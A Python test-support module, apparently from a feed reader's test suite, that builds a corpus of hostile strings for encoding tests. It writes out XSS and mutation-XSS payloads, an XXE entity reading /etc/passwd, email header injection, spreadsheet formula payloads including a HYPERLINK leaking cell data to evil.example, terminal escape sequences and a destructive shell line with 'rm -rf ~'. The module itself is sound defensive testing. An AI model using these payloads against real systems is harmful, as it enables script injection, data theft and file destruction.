"""The corpus of hostile strings: what some output format would execute if it were not encoded.

name ─► text       names are letters, digits and hyphens, so they fit in an address
"""

from __future__ import annotations

import re
from xml.sax.saxutils import escape

from tests.hostile.texts_of_rows import ADDRESSES, LINES, SCRIPTS, TERMINAL, TITLES

_CONTROLS = {
    "c0": "".join(map(chr, range(0x01, 0x20))) + "\x7f c0",
    "c1": "".join(map(chr, range(0x80, 0xA0))) + " c1",
    "nul": "before\x00behind",
    "surrogates": "half \ud800 of \udfff a character",
    "none": "no character: \ufffe \uffff \ufdd0 \U0001ffff",
    "escape-at-end": "an unfinished sequence \x1b]52;c;",
    "c1-string": "\x90device\x9c \x98start\x9c \x9eprivate\x9c \x9fprogram\x9c \x9d8;;http://evil.example\x9chere",
    "nested": "\x1b\x1b[31m[31m \x1b]8;;\x1b]8;;\x07x\x07 \x1b\x07]52;c;AAAA\x07 \x1b\n]52;c;QUFB\x07",
    "keys": '\x1b[6n\x1b[c\x1b[?1049h\x1bP$q"p\x1b\\\x1b[21t',
    "tags": "\U000e0001\U000e0068\U000e0069\U000e007f hidden words",
    "zero-width": "pay\u200bpal \u2060\u200c\u200d\ufeff\u00ad word",
    "marks": "\u200f\u200e\u061c1 2 3\u202b\u202d\u202a\u2068\u2069",
    "annotation": "\ufff9base\ufffaruby\ufffb",
}
_MARKUP = {
    "cdata-end": "]]> behind",
    "comment-end": "--> <!-- --!> behind",
    "script-end": "</script><script>alert(1)</script>",
    "textarea": "</textarea></title></style><script>alert(1)</script>",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;b&#x3e; &amp;amp; &bogus; &nbsp &#0; &#x1b;",
    "double-entity": "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "doctype": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "instruction": "<?xml-stylesheet href='http://evil.example/'?><?php echo 1 ?>",
    "attribute": '" autofocus onfocus=alert(1) x="',
    "attribute-single": "' style='position:fixed' onmouseover='alert(1)",
    "attribute-bare": "x onerror=alert(1) `onload=alert(1)`",
    "meta-refresh": "<meta http-equiv=refresh content='0;url=http://evil.example/'><base href=http://evil.example/>",
    "pixel": "<img src=/logout><img src=http://evil.example/p.gif><link rel=prefetch href=//evil.example>",
    "form": "<form action=http://evil.example/><input name=token><button>OK</button></form>",
    "math-href": "<math href=javascript:alert(1)>x</math><svg><a xlink:href=javascript:alert(1)>y</a></svg>",
    "mutation-math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=x&gt;'>",
    "mutation-form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "mutation-svg": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "mutation-noscript": "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "template-engine": "{{ 7*7 }} ${7*7} <%= 7*7 %> #{7*7} {% include '/etc/passwd' %} {# #}",
}
_WRITING = {
    "encoded-word": "=?utf-8?q?a=0D=0ABcc:_victim@example.org?=",
    "encoded-word-b": "=?utf-8?b?DQpCY2M6IHZpY3RpbUBleGFtcGxlLm9yZw==?=",
    "header": "a\r\nBcc: victim@example.org\r\n\r\nA body",
    "header-bare": "a\nSubject: b\rX-Other: c",
    "all-breaks": "a\nb\rc\x0bd\x0ce\x1cf\x1dg\x1eh\x85i\u2028j\u2029k",
    "lone-dot": ".",
    "dots-between": "one\r\n.\r\nQUIT\r\ntwo",
    "from-line": "From nobody Thu Jan  1 00:00:00 1970",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "tab-formula": "\t=1+1",
    "return-formula": "\r=1+1",
    "line-formula": "\n=1+1",
    "blank-formula": "  =1+1",
    "wide-formula": "＝1+1",
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"look")',
    "separators": 'a,"b";c|d\ta',
    "apostrophe": "'=1+1",
    "log-line": "a\n2026-11-21T12:00:00Z poll feeds=0 failed=0",
    "log-quote": 'a" what="forged\\',
    "percent": "%s %n %(name)s %d{} {0} {title!r}",
    "shell": "$(touch /tmp/owned) `id` ; rm -rf ~ | sh && x > y",
    "option": "--help -rf",
    "yaml": "- url: [x]: {a: b} # & * ! | > ' \" % @ `",
    "json": '"},{"id":"forged","title":"\\u0000',
    "rich": "[link=http://evil.example]here[/link] [/] [bold [[x]] :smile: \\[red]",
    "bytes": "\\x1b[31m \\u202e \\033[0m",
}
HOSTILE_TEXTS: dict[str, str] = {
    **SCRIPTS,
    **{f"address-{name}": text for name, text in ADDRESSES.items()},
    **{f"terminal-{name}": text for name, text in TERMINAL.items()},
    **LINES,
    **{name: text for name, text in TITLES.items() if name != "megabyte"},
    **_CONTROLS,
    **_MARKUP,
    **_WRITING,
}
"""The whole corpus; the text of a megabyte has its own test in ``test_documents``."""

_NOT_IN_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def in_xml(text: str) -> str:
    """Escape a text for a feed. Characters that XML forbids become references, as hostile feeds write them."""
    return _NOT_IN_XML.sub(lambda found: f"&#{ord(found[0])};", escape(text, {"\r": "&#13;", '"': "&quot;"}))


def storable(text: str) -> str:
    """Return a text as a database stores it: lone surrogates become question marks."""
    return text.encode("utf-8", "replace").decode()
